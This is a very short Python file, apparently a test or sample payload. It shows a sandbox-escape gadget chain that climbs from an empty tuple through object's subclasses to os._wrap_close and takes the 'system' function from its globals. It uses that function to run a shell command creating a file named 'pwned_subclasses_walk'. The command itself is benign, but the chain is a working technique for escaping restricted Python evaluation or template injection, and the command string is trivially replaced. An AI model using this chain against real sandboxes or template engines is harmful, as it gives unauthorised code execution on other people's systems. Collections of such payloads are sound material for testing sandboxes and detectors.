"""file: from an empty tuple to a class whose module knows the system."""

wanted = [c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == "_wrap_close"]
x = wanted[0].__init__.__globals__["system"]("touch pwned_subclasses_walk")
